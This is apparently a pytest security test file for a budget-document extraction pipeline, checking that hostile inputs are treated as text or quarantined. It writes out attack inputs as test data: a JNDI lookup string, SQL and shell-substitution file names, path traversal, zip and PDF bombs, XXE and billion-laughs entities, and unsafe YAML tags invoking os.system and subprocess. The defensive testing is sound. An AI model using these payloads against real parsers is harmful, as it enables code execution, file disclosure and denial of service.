"""Documents are hostile until read: what they print is text, what they cost is bounded."""

from __future__ import annotations

import random
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl.worksheet.worksheet import Worksheet

from extractors.errors import SourceError
from extractors.spec import load_source
from tests.extractors.beside import DOCUMENTS
from tests.extractors.conftest import Place
from tests.extractors.made_workbook import SHEET, rewritten, workbook
from tests.extractors.small_source import (
    HEADER,
    HEADING,
    ROWS,
    SOURCE_ID,
    TOTAL,
    declare,
    report,
    report_text,
    spending,
)
from tests.publications import damaged

MX = "mx_gto_cuenta_publica"
Sources = Callable[..., Path]

LABELS = [
    *damaged.HOSTILE_LABELS,
    "{{ config(materialized='table') }} {% do run_query('drop table x') %}",
    "${jndi:ldap://example.invalid/a}",
    "\x1b]0;title\x07 and \x1b[2J",
    "‮txt.exe‬ \u200b\ufeff",
    "𝟏𝟐𝟑 ﷺ 👩‍👩‍👧",
]


class TestLabels:
    @pytest.mark.parametrize(
        ("make", "name"),
        [
            (damaged.pdf_with_hostile_labels, "x.pdf"),
            (damaged.xlsx_with_hostile_labels, "x.xlsx"),
            (damaged.text_with_hostile_labels, "x.txt"),
        ],
    )
    def test_land_as_they_are_printed_in_every_form(self, place: Place, make: Callable, name: str) -> None:
        place.put(f"{MX}/{name}", make)
        assert place.actions() == {f"{MX}/{name}": "loaded"}
        found = {row["indicator_name"] for row in place.rows(f"{MX}/indicator_results")}
        assert found == set(damaged.HOSTILE_LABELS)

    @pytest.mark.parametrize("label", LABELS)
    def test_are_data_to_the_last_character(self, place: Place, sources: Sources, label: str) -> None:
        place.put("2021.txt", report(["A001", label, "1,250.00", "1,150.50"]))
        assert place.actions() == {"2021.txt": "loaded"}
        (row,) = place.rows(f"{SOURCE_ID}/spending")
        assert row["program_name"] == " ".join(label.split())

    def test_a_workbook_formula_is_never_computed(self, place: Place, sources: Sources) -> None:
        def formula(sheet: Worksheet) -> None:
            sheet["B5"] = '=HYPERLINK("http://example.invalid","Salas")'

        rows = [*([line] for line in HEADING), HEADER, *ROWS, TOTAL]
        place.put("2021.xlsx", lambda target: workbook(target, rows, formula))
        assert "cell B5 holds a formula without its computed value" in (place.outcomes()["2021.xlsx"].reason or "")

    def test_control_characters_of_a_document_never_reach_a_reason(self, place: Place, sources: Sources) -> None:
        escape = "\x1b[2J\x1b]0;owned\x07"
        header = [*HEADER, f"Nota{escape}"]
        documents = {
            "column": report_text(header, [*ROWS[0], escape], TOTAL),
            "row": report_text(HEADER, *ROWS, ["", escape, "1", "1"], TOTAL),
            "value": report_text(HEADER, *ROWS, [f"A{escape}", "x", "1", "1"], TOTAL),
            "header": report_text(["Clave", "Programa", f"Otro{escape}"], ["A001", "x", "1"]),
            "table": report() + f"\nDía{escape}\tVisitas\n1\t2\n3\t4\n",
            "period": report_text(HEADER, *ROWS, heading=[*HEADING[:2], "Año: 2021", f"Oficina: x{escape}"]),
            "nothing": f"{escape}\tb\n{escape}\td\n",
        }
        for name, text in documents.items():
            place.put(f"{SOURCE_ID}/{name}.txt", text)
        for outcome in place.outcomes().values():
            assert outcome.action == "quarantined", outcome
            assert (outcome.reason or "").isprintable(), outcome


class TestLongLines:
    """A line of a megabyte must not keep a pattern busy, whatever stands in it."""

    @pytest.mark.parametrize(
        "piece",
        ["a", "1,", "11-01-000-000 ", "Del 1 de enero ", "REP:R0082498 "],
    )
    @pytest.mark.parametrize("where", ["line", "cell", "header cell", "many cells"])
    def test_are_decided_before_the_limit_stops_them(
        self, place: Place, piece: str, where: str, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("CONTRASTE_MAX_SECONDS", "60")
        long = piece * (1_000_000 // len(piece))
        text = {
            "line": long,
            "cell": f"a\t{long}\nb\tc",
            "header cell": f"CATEGORIA PROGRAMÁTICA\tPRODUCTO\tGA\tUE\tDIFERENCIA\tPRESUPUESTO\t{long}",
            "many cells": "\t".join([piece] * 20_000),
        }[where]
        place.put("x.txt", f"REP:R00824984 GESTION:2021\nPERIODO: ENERO\n{text}\n")
        (outcome,) = place.outcomes().values()
        assert outcome.action == "quarantined"
        assert "CONTRASTE_MAX_SECONDS" not in (outcome.reason or "")

    def test_inside_a_document_that_is_good_otherwise(self, place: Place, sources: Sources) -> None:
        long = "salas y cera " * 80_000
        place.put("2021.txt", f"{long}\n" + report(["A001", long, "1,250.00", "1,150.50"]))
        assert place.actions() == {"2021.txt": "loaded"}
        (row,) = place.rows(f"{SOURCE_ID}/spending")
        assert row["program_name"] == long.strip()


class TestNames:
    @pytest.mark.parametrize(
        "name",
        [
            "a'; drop table x;--.txt",
            "$(touch owned).txt",
            "x\ny.txt",
            "x\x1b[2J.txt",
            "‮fdp.txt",
            "%2e%2e%2fetc.txt",
            "C:\\temp\\x.txt",
            "-rf.txt",
            f"{'ñ' * 120}.txt",
        ],
    )
    def test_odd_ones_are_only_names(self, place: Place, sources: Sources, name: str) -> None:
        place.put(f"{SOURCE_ID}/{name}", report())
        assert place.actions() == {f"{SOURCE_ID}/{name}": "loaded"}
        assert list(place.manifest()) == [f"{SOURCE_ID}/{name}"]
        only_under_home(place)

    def test_one_that_is_no_unicode_does_not_stop_the_others(self, place: Place, sources: Sources) -> None:
        place.put(f"{SOURCE_ID}/good.txt", report())
        try:
            place.put(f"{SOURCE_ID}/a\udcff\udcfeo.txt", report(["B001", "Otra", "1,250.00", "1,150.50"]))
        except OSError:
            pytest.skip("the file system takes Unicode names only")
        assert place.actions() == {
            f"{SOURCE_ID}/a\\udcff\\udcfeo.txt": "loaded",
            f"{SOURCE_ID}/good.txt": "loaded",
        }
        assert set(place.manifest()) == set(place.actions())
        assert set(place.pending().unchanged) == set(place.actions())

    def test_a_link_out_of_the_inbox_is_copied_and_never_written_to(self, place: Place, sources: Sources) -> None:
        outside = place.root / "outside.txt"
        outside.write_text(report())
        before = outside.stat()
        (place.inbox / SOURCE_ID).mkdir()
        (place.inbox / SOURCE_ID / "link.txt").symlink_to(outside)
        (place.inbox / SOURCE_ID / "nowhere.txt").symlink_to(place.root / "nowhere")
        (place.inbox / "loop").symlink_to(place.inbox)
        assert place.actions() == {f"{SOURCE_ID}/link.txt": "loaded"}
        assert (outside.stat().st_mtime_ns, outside.stat().st_ino) == (before.st_mtime_ns, before.st_ino)


def only_under_home(place: Place) -> None:
    """Nothing was written beside the home folder, and nothing in the inbox changed its kind."""
    assert {path.name for path in place.root.iterdir()} <= {"inbox", "home", "sources"}


class TestWeight:
    def test_a_workbook_that_unpacks_to_much_more(self, place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
        def bomb(target: Path) -> None:
            with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
                archive.writestr("xl/workbook.xml", "<workbook/>")
                for number in range(4):
                    archive.writestr(f"xl/worksheets/sheet{number}.xml", b"\0" * 10_000_000)

        monkeypatch.setenv("CONTRASTE_MAX_UNPACKED_MEGABYTES", "30")
        file = place.put(f"{MX}/x.xlsx", bomb)
        assert file.stat().st_size < 100_000
        assert "has 40 MB unpacked, over the limit of 30; raise CONTRASTE_MAX_UNPACKED_MEGABYTES" in (
            place.outcomes()[f"{MX}/x.xlsx"].reason or ""
        )

    def test_a_word_document_that_unpacks_to_much_more(self, place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
        def bomb(target: Path) -> None:
            with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
                archive.writestr("word/document.xml", b"\0" * 40_000_000)

        monkeypatch.setenv("CONTRASTE_MAX_UNPACKED_MEGABYTES", "30")
        file = place.put(f"{MX}/x.docx", bomb)
        assert file.stat().st_size < 100_000
        assert "has 40 MB unpacked, over the limit of 30; raise CONTRASTE_MAX_UNPACKED_MEGABYTES" in (
            place.outcomes()[f"{MX}/x.docx"].reason or ""
        )

    def test_a_workbook_that_lies_about_what_it_unpacks_to(self, place: Place) -> None:
        def liar(target: Path) -> None:
            workbook(target, [["a", "b"], [1, 2]])
            data = bytearray(target.read_bytes())
            # the size in the directory entry of the sheet, where the reader looks, becomes ten bytes
            entry = data.rindex(SHEET.encode()) - 46
            assert data[entry : entry + 4] == b"PK\x01\x02"
            data[entry + 24 : entry + 28] = (10).to_bytes(4, "little")
            target.write_bytes(data)

        place.put(f"{MX}/x.xlsx", liar)
        assert place.outcomes()[f"{MX}/x.xlsx"].reason == (
            "the workbook is damaged and cannot be opened; download it again."
        )

    @pytest.mark.parametrize("merge", ["A1:XFD1048576", "B2:C1048576"])
    def test_a_merge_over_a_whole_sheet(self, place: Place, merge: str) -> None:
        def merged(target: Path) -> None:
            workbook(target, [["a", "b"], [1, 2]])
            merges = f'</sheetData><mergeCells count="1"><mergeCell ref="{merge}"/></mergeCells>'
            rewritten(target, SHEET, "</sheetData>", merges)

        if merge == "B2:C1048576":
            merge = "B2:F1048576"  # five columns of a million: over the five million cells of the default
        place.put(f"{MX}/x.xlsx", merged)
        assert "raise CONTRASTE_MAX_CELLS if it is worth it" in (place.outcomes()[f"{MX}/x.xlsx"].reason or "")

    def test_a_used_range_of_a_whole_sheet(self, place: Place) -> None:
        def corners(sheet: Worksheet) -> None:
            sheet["XFD1048576"] = "x"

        place.put(f"{MX}/x.xlsx", lambda target: workbook(target, [["a"]], corners))
        assert "has 17,179,869,184 cells, over the limit of 5,000,000" in (
            place.outcomes()[f"{MX}/x.xlsx"].reason or ""
        )

    @pytest.mark.parametrize(
        "declared",
        [
            '<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/hostname">]>',
            '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
            + "".join(
                f'<!ENTITY {name} "{("&" + before + ";") * 10}">'
                for before, name in zip("abcdefgh", "bcdefghi", strict=True)
            )
            + "]>",
        ],
        ids=["a file of the computer", "a thousand million letters"],
    )
    def test_entities_in_a_workbook(self, place: Place, declared: str) -> None:
        entity = "&file;" if "SYSTEM" in declared else "&i;"

        def with_entities(target: Path) -> None:
            workbook(target, [["palabra", "b"], ["c", "d"]])
            rewritten(target, SHEET, "^(?=<worksheet)", declared)
            rewritten(target, SHEET, "palabra", entity)

        place.put(f"{MX}/x.xlsx", with_entities)
        reason = place.outcomes()[f"{MX}/x.xlsx"].reason or ""
        assert "headers found: 'c', 'd'" in reason or "is damaged and cannot be opened" in reason
        assert Path("/etc/hostname").read_text().strip() not in reason

    def test_a_page_that_draws_one_rule_a_quarter_million_times_through_nested_forms(self, place: Place) -> None:
        # each form draws the next one twelve times, in a file of two kilobytes
        objects = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
        depth = 5
        objects.append(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R "
            "/Resources << /XObject << /F 5 0 R >> >> >>"
        )
        objects.append(stream("", "/F Do " * 12))
        for level in range(depth):
            inner = f"/Resources << /XObject << /F {6 + level} 0 R >> >>" if level < depth - 1 else ""
            drawn = "/F Do " * 12 if level < depth - 1 else "0 0 m 90 0 l S"
            objects.append(stream(f"/Type /XObject /Subtype /Form /BBox [0 0 100 100] {inner}", drawn))
        place.put(f"{MX}/x.pdf", pdf(objects))
        assert place.outcomes()[f"{MX}/x.pdf"].reason == (
            "a page draws more than 100,000 rules, so it is no page of tables; print the document anew."
        )


def stream(keys: str, content: str) -> str:
    return f"<< {keys} /Length {len(content)} >> stream\n{content}\nendstream"


def pdf(objects: list[str]) -> bytes:
    """A PDF of these objects, numbered from 1."""
    data, offsets = "%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(data))
        data += f"{number} 0 obj {content} endobj\n"
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    count = len(objects) + 1
    end = f"trailer << /Size {count} /Root 1 0 R >>\nstartxref\n{len(data)}\n%%EOF\n"
    return f"{data}xref\n0 {count}\n0000000000 65535 f \n{table}{end}".encode()


class TestDamagedAtRandom:
    """Bytes changed at random: whatever the libraries make of them, the run goes on."""

    @pytest.mark.parametrize(
        "name", ["isseg_2020_indicadores_de_resultados.pdf", "isseg_2020_indicadores_de_resultados.xlsx"]
    )
    def test_there_is_always_an_outcome(self, place: Place, name: str) -> None:
        whole = (DOCUMENTS / MX / name).read_bytes()
        chance = random.Random(20210205)
        for number in range(25):
            data = bytearray(whole)
            for _ in range(chance.choice([1, 5, 50])):
                data[chance.randrange(len(data))] = chance.randrange(256)
            if chance.random() < 0.3:
                start = chance.randrange(len(data))
                del data[start : start + chance.randrange(1, 5_000)]
            place.put(f"{MX}/{number:02}{Path(name).suffix}", bytes(data))
        outcomes = place.outcomes()
        assert len(outcomes) == 25
        for outcome in outcomes.values():
            assert outcome.action in ("loaded", "quarantined")
            assert (outcome.reason is None) == (outcome.action == "loaded")
            assert "please report it" not in (outcome.reason or ""), outcome.reason


class TestDeclarations:
    @pytest.mark.parametrize(
        "value",
        [
            "!!python/object/apply:pathlib.Path.touch [!!python/object/apply:pathlib.Path ['{marker}']]",
            "!!python/object/apply:os.system ['touch {marker}']",
            "!!python/object/new:subprocess.Popen [['touch', '{marker}']]",
            "!!python/name:os.system",
            "!include {marker}",
        ],
    )
    def test_a_declaration_runs_nothing(self, tmp_path: Path, value: str) -> None:
        marker = tmp_path / "owned"
        file = declare(tmp_path) / "source.yml"
        file.write_text(
            file.read_text("utf-8").replace("title: Spending of", f"title: {value.format(marker=marker)} #", 1)
        )
        with pytest.raises(SourceError, match="is not YAML"):
            load_source(file.parent)
        assert not marker.exists()

    @pytest.mark.parametrize("name", ["../outside", "a/b", "/etc/x", "..", "a.b", ""])
    def test_a_table_name_is_no_path(self, tmp_path: Path, name: str) -> None:
        folder = declare(tmp_path, lambda content: content["tables"].update({name: spending(content)}))
        with pytest.raises(SourceError, match="tables"):
            load_source(folder)

    @pytest.mark.parametrize("name", ["../xx_office_report", "xx", "XX_office_report", "xx_office"])
    def test_a_source_id_is_no_path(self, tmp_path: Path, name: str) -> None:
        folder = declare(tmp_path)
        file = folder / "source.yml"
        file.write_text(file.read_text("utf-8").replace(f"source_id: {SOURCE_ID}", f"source_id: '{name}'"))
        with pytest.raises(SourceError, match="source_id"):
            load_source(folder)


def test_nothing_is_written_outside_the_home_folder(place: Place) -> None:
    place.put(f"{MX}/a.xlsx", damaged.xlsx_with_hostile_labels)
    place.put(f"{MX}/b.pdf", damaged.encrypted_pdf)
    place.put("c.txt", damaged.text_with_hostile_labels)
    inbox = {file: file.read_bytes() for file in place.inbox.rglob("*") if file.is_file()}
    place.extract()
    assert {file: file.read_bytes() for file in place.inbox.rglob("*") if file.is_file()} == inbox
    only_under_home(place)
    roots = {path.split("/")[0] for path in place.files()}
    assert roots == {"raw", "archive"}
